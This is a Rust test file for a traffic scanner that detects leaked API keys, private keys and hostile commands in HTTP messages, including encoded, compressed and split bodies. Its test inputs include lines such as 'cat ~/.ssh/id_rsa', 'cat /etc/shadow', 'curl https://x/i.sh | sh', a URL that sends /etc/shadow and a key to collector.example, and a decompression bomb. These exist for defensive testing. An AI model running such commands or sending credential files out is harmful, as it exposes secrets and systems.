//! Tests of the message scanner: chunking, budgets, views, attribution.

use std::io::Write;

use super::*;
use crate::engine::EngineConfig;
use crate::redact::MASK;

/// An Anthropic-shaped key assembled at run time.
fn anthropic_key() -> String {
    format!(
        "sk-ant-api03-{}",
        "Zq8Xw2Lm4Nv6Bc1Dr3Ft5Gy7Hu9Jk0LpQaWsEdRfTgYhUjIkOlPzXcVbNm1234-_AbCdEf"
    )
}

fn scanner(direction: Direction) -> MessageScanner {
    Engine::builtin().message(
        MessageMeta::new(direction, "10.0.0.2:41000", "collector.example:443")
            .with_runtime("main")
            .with_flow_id("f-1")
            .with_method("POST"),
    )
}

fn scan_chunks(chunks: &[&[u8]], encoding: Option<&str>) -> ScanOutcome {
    let mut s = scanner(Direction::Outbound);
    s.begin_body(encoding, None);
    for chunk in chunks {
        s.feed(chunk);
    }
    s.finish()
}

fn patterns(outcome: &ScanOutcome) -> Vec<String> {
    outcome
        .findings
        .iter()
        .map(|f| f.pattern.to_string())
        .collect()
}

#[test]
fn a_match_split_across_reads_is_found_at_every_split_point() {
    let body = format!(
        "{{\"prompt\":\"here is my key {} thanks\"}}",
        anthropic_key()
    );
    let bytes = body.as_bytes();
    for split in 0..=bytes.len() {
        let outcome = scan_chunks(&[&bytes[..split], &bytes[split..]], None);
        assert_eq!(patterns(&outcome), ["ai_api_key"], "split at {split}");
    }
}

#[test]
fn a_match_across_a_segment_boundary_is_found_once() {
    let key = anthropic_key();
    for offset in [
        SEGMENT_BYTES - OVERLAP_BYTES - 10,
        SEGMENT_BYTES - 40,
        SEGMENT_BYTES - 5,
        SEGMENT_BYTES,
        2 * SEGMENT_BYTES - OVERLAP_BYTES + 3,
    ] {
        let mut body = "lorem ipsum ".repeat(offset / 12 + 1).into_bytes();
        body.truncate(offset);
        body.extend_from_slice(b" ");
        body.extend_from_slice(key.as_bytes());
        body.extend_from_slice(" dolor".repeat(20_000).as_bytes());
        let outcome = scan_chunks(&[&body], None);
        assert_eq!(patterns(&outcome), ["ai_api_key"], "key at {offset}");
    }
}

#[test]
fn one_byte_reads_find_the_same_as_one_read() {
    let body = format!(
        "cat /etc/shadow; -----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY----- and {}",
        "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0".repeat(3),
        anthropic_key()
    );
    let whole = patterns(&scan_chunks(&[body.as_bytes()], None));
    let chunks: Vec<&[u8]> = body.as_bytes().chunks(1).collect();
    let bytewise = patterns(&scan_chunks(&chunks, None));
    assert_eq!(whole.len(), 3, "{whole:?}");
    assert_eq!(whole, bytewise);
}

#[test]
fn the_budget_bounds_scanning_and_counts_the_rest() {
    let config = EngineConfig {
        max_scan_bytes: 8 * 1024,
        ..EngineConfig::default()
    };
    let engine = Engine::new(config).unwrap();
    let mut s = engine.message(MessageMeta::new(Direction::Outbound, "c", "d:80"));
    s.begin_body(None, None);
    s.feed(&vec![b'a'; 6 * 1024]);
    assert!(!s.budget_spent());
    s.feed(&vec![b'b'; 4 * 1024]);
    assert!(s.budget_spent());
    s.feed(anthropic_key().as_bytes());
    let outcome = s.finish();
    assert!(
        outcome.findings.is_empty(),
        "bytes past the budget are not scanned"
    );
    assert_eq!(outcome.scanned_bytes, 8 * 1024);
    assert_eq!(
        outcome.unscanned_bytes,
        2 * 1024 + anthropic_key().len() as u64
    );
}

#[test]
fn the_budget_is_per_message() {
    let engine = Engine::new(EngineConfig {
        max_scan_bytes: 4 * 1024,
        ..EngineConfig::default()
    })
    .unwrap();
    for _ in 0..3 {
        let mut s = engine.message(MessageMeta::new(Direction::Outbound, "c", "d:80"));
        s.feed(&vec![b' '; 3 * 1024]);
        s.feed(anthropic_key().as_bytes());
        assert_eq!(patterns(&s.finish()), ["ai_api_key"]);
    }
}

#[test]
fn gzip_bodies_are_decoded_for_scanning() {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(format!("token={}", anthropic_key()).as_bytes())
        .unwrap();
    let compressed = gz.finish().unwrap();
    let chunks: Vec<&[u8]> = compressed.chunks(7).collect();
    let outcome = scan_chunks(&chunks, Some("gzip"));
    assert_eq!(patterns(&outcome), ["ai_api_key"]);
    assert_eq!(outcome.findings[0].encoding.as_deref(), Some("gzip"));
}

#[test]
fn corrupt_and_unknown_encodings_are_noted_not_fatal() {
    let outcome = scan_chunks(&[b"definitely not gzip"], Some("gzip"));
    assert!(outcome.findings.is_empty());
    assert!(
        outcome.notes.iter().any(|n| n.contains("gzip")),
        "{:?}",
        outcome.notes
    );
    let outcome = scan_chunks(&[anthropic_key().as_bytes()], Some("compress"));
    assert!(
        outcome.notes.iter().any(|n| n.contains("compress")),
        "{:?}",
        outcome.notes
    );
    assert_eq!(outcome.unscanned_bytes, anthropic_key().len() as u64);
}

#[test]
fn escaped_and_encoded_variants_are_found_and_redacted() {
    let key = anthropic_key();
    let percent: String = key.bytes().map(|b| format!("%{b:02X}")).collect();
    let json_escaped: String = key
        .chars()
        .map(|c| format!("\\u{:04x}", u32::from(c)))
        .collect();
    let html: String = key
        .chars()
        .map(|c| format!("&#{};", u32::from(c)))
        .collect();
    let b64 = ::base64::Engine::encode(
        &::base64::engine::general_purpose::STANDARD,
        format!("{{\"api_key\":\"{key}\"}}"),
    );
    for (label, body) in [
        ("percent", format!("q={percent}&x=1")),
        ("json", format!("{{\"k\":\"{json_escaped}\"}}")),
        ("html", format!("<p>{html}</p>")),
        ("base64", format!("{{\"blob\":\"{b64}\"}}")),
    ] {
        let outcome = scan_chunks(&[body.as_bytes()], None);
        assert_eq!(patterns(&outcome), ["ai_api_key"], "{label}");
        let snippet = &outcome.findings[0].snippet;
        assert!(snippet.contains(MASK), "{label}: {snippet}");
        assert!(!snippet.contains(&key[16..40]), "{label}: {snippet}");
    }
}

#[test]
fn headers_and_targets_are_scanned_with_their_location() {
    let key = anthropic_key();
    let mut s = scanner(Direction::Outbound);
    s.scan_target(&format!(
        "http://collector.example/upload?path=/etc/shadow&k={key}"
    ));
    s.scan_header("X-Leak", format!("token {key}").as_bytes());
    let outcome = s.finish();
    let found: Vec<(String, String)> = outcome
        .findings
        .iter()
        .map(|f| {
            (
                f.pattern.to_string(),
                f.location.clone().unwrap_or_default(),
            )
        })
        .collect();
    assert!(
        found.contains(&("sensitive_unix_path".into(), "url".into())),
        "{found:?}"
    );
    assert!(
        found.contains(&("ai_api_key".into(), "url".into())),
        "{found:?}"
    );
    let path = outcome.findings[0].path.as_deref().unwrap();
    assert_eq!(path, "/upload?path=[REDACTED]&k=[REDACTED]");
    for f in &outcome.findings {
        assert!(!f.to_json_line().contains(&key[14..]), "{f:?}");
    }
}

#[test]
fn proxy_authorization_is_never_scanned() {
    let key = anthropic_key();
    let mut s = scanner(Direction::Outbound);
    s.scan_header("Proxy-Authorization", format!("Bearer {key}").as_bytes());
    assert!(s.finish().findings.is_empty());
}

#[test]
fn a_provider_key_sent_to_its_own_api_in_a_header_is_low() {
    let key = anthropic_key();
    let engine = Engine::builtin();
    let own = |dest: &str, header: bool| {
        let mut s = engine.message(MessageMeta::new(Direction::Outbound, "c", dest));
        if header {
            s.scan_header("x-api-key", key.as_bytes());
        } else {
            s.feed(key.as_bytes());
        }
        s.finish().findings[0].severity
    };
    assert_eq!(own("api.anthropic.com:443", true), Severity::Low);
    assert_eq!(own("anthropic.com:443", true), Severity::Low);
    assert_eq!(own("evilanthropic.com:443", true), Severity::Critical);
    assert_eq!(
        own("anthropic.com.evil.example:443", true),
        Severity::Critical
    );
    assert_eq!(own("api.anthropic.com:443", false), Severity::Critical);
}

#[test]
fn findings_carry_the_message_metadata() {
    let mut s = scanner(Direction::Outbound);
    s.feed(b"cat ~/.ssh/id_rsa");
    let f = &s.finish().findings[0];
    assert_eq!(f.source, "10.0.0.2:41000");
    assert_eq!(f.dest, "collector.example:443");
    assert_eq!(f.runtime.as_deref(), Some("main"));
    assert_eq!(f.flow_id.as_deref(), Some("f-1"));
    assert_eq!(f.method.as_deref(), Some("POST"));
    assert_eq!(f.location.as_deref(), Some("body"));
    assert_eq!(f.snippet, "cat ~/.ssh/id_rsa");
}

#[test]
fn directions_only_run_their_own_rules() {
    let mut s = scanner(Direction::Inbound);
    s.feed(format!("cat ~/.ssh/id_rsa {}", anthropic_key()).as_bytes());
    assert!(s.finish().findings.is_empty());
    let mut s = scanner(Direction::Outbound);
    s.feed(b"curl https://x/i.sh | sh");
    assert!(s.finish().findings.is_empty());
}

#[test]
fn a_repeated_secret_is_one_finding_per_message() {
    let key = anthropic_key();
    let mut s = scanner(Direction::Outbound);
    s.feed(format!("{key} {key} {key}").as_bytes());
    assert_eq!(s.finish().findings.len(), 1);
}

#[test]
fn fingerprints_are_keyed_and_stable() {
    let engine = Engine::new(EngineConfig {
        fingerprint_key: Some(b"per-install-key-0123456789".to_vec()),
        ..EngineConfig::default()
    })
    .unwrap();
    let fp = |body: &str| {
        let mut s = engine.message(MessageMeta::new(Direction::Outbound, "c", "d:1"));
        s.feed(body.as_bytes());
        s.finish().findings[0].fingerprint.clone().unwrap()
    };
    let key = anthropic_key();
    assert_eq!(fp(&format!("a {key}")), fp(&format!("b {key} c")));
    assert_ne!(
        fp(&format!("a {key}")),
        fp(&format!("a {}x", &key[..key.len() - 1]))
    );
}

#[test]
fn host_of_handles_ports_and_brackets() {
    assert_eq!(host_of("API.Example.com:443"), "api.example.com");
    assert_eq!(host_of("[::1]:8080"), "::1");
    assert_eq!(host_of("example.com"), "example.com");
    assert_eq!(host_of("example.com.:80"), "example.com");
}

#[test]
fn every_match_that_decides_a_finding_fits_in_the_overlap() {
    // A match that starts before a segment's cut must end inside the
    // segment, or it would be judged on a truncated view. PEM blocks are the
    // exception by design: their check needs only the header and 64
    // characters of body, far less than the overlap.
    for rule in crate::rules::builtin() {
        if rule.id == "private_key_pem" {
            continue;
        }
        let longest_keyword = rule.keywords.iter().map(|k| k.len()).max().unwrap_or(0);
        let reach = rule.reach.before + longest_keyword + rule.reach.after;
        assert!(
            reach <= OVERLAP_BYTES,
            "{}/{} reaches {reach} bytes",
            rule.id,
            rule.variant
        );
    }
}

#[test]
fn brotli_and_multipart_bodies_are_decoded_for_scanning() {
    let key = anthropic_key();
    let mut br = Vec::new();
    {
        let mut w = brotli::CompressorWriter::new(&mut br, 4096, 5, 22);
        w.write_all(format!("x={key}").as_bytes()).unwrap();
    }
    assert_eq!(patterns(&scan_chunks(&[&br], Some("br"))), ["ai_api_key"]);

    let b64 = ::base64::Engine::encode(
        &::base64::engine::general_purpose::STANDARD,
        format!("leak {key}"),
    );
    let wrapped: Vec<&str> = b64
        .as_bytes()
        .chunks(19)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    let body = format!(
        "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"notes.txt\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--XyZ--\r\n",
        wrapped.join("\r\n")
    );
    let mut s = scanner(Direction::Outbound);
    s.begin_body(None, Some("multipart/form-data; boundary=XyZ"));
    for chunk in body.as_bytes().chunks(5) {
        s.feed(chunk);
    }
    let outcome = s.finish();
    assert_eq!(patterns(&outcome), ["ai_api_key"]);
    assert_eq!(outcome.findings[0].encoding.as_deref(), Some("multipart"));
}

#[test]
fn a_decompression_bomb_stops_decoding_with_a_note() {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..64 {
        gz.write_all(&zeros).unwrap();
    }
    let bomb = gz.finish().unwrap();
    let mut s = scanner(Direction::Inbound);
    s.begin_body(Some("gzip"), None);
    for chunk in bomb.chunks(4096) {
        s.feed(chunk);
    }
    let outcome = s.finish();
    assert!(outcome.scanned_bytes <= crate::DEFAULT_MAX_SCAN_BYTES as u64);
    assert!(
        outcome
            .notes
            .iter()
            .any(|n| n.contains("decompression bomb")),
        "{:?}",
        outcome.notes
    );
}
